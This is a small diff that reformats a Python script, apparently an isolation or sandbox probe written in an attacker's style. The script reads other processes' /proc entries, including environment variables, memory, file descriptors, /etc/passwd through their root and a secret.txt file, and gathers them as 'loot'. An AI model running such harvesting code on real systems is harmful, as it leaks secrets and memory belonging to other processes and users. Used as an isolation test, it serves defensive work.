@@ -1,5 +1,6 @@
 # ruff: noqa  # written as an attacker writes
 """/proc of this process, its parent and every other: memory, maps, environment, descriptors, roots."""
+
 # %%
 import os
 
@@ -10,8 +11,24 @@ try:
 except OSError:
     pass
 for pid in pids:
-    for name in ("environ", "cmdline", "maps", "mem", "stack", "root/etc/passwd", "cwd/secret.txt",
-                 "auxv", "status", "mountinfo", "io", "syscall", "task/1/mem", "fd/3", "fd/4", "fd/5"):
+    for name in (
+        "environ",
+        "cmdline",
+        "maps",
+        "mem",
+        "stack",
+        "root/etc/passwd",
+        "cwd/secret.txt",
+        "auxv",
+        "status",
+        "mountinfo",
+        "io",
+        "syscall",
+        "task/1/mem",
+        "fd/3",
+        "fd/4",
+        "fd/5",
+    ):
         try:
             with open(f"/proc/{pid}/{name}", "rb") as file:
                 loot.append(file.read(100_000))
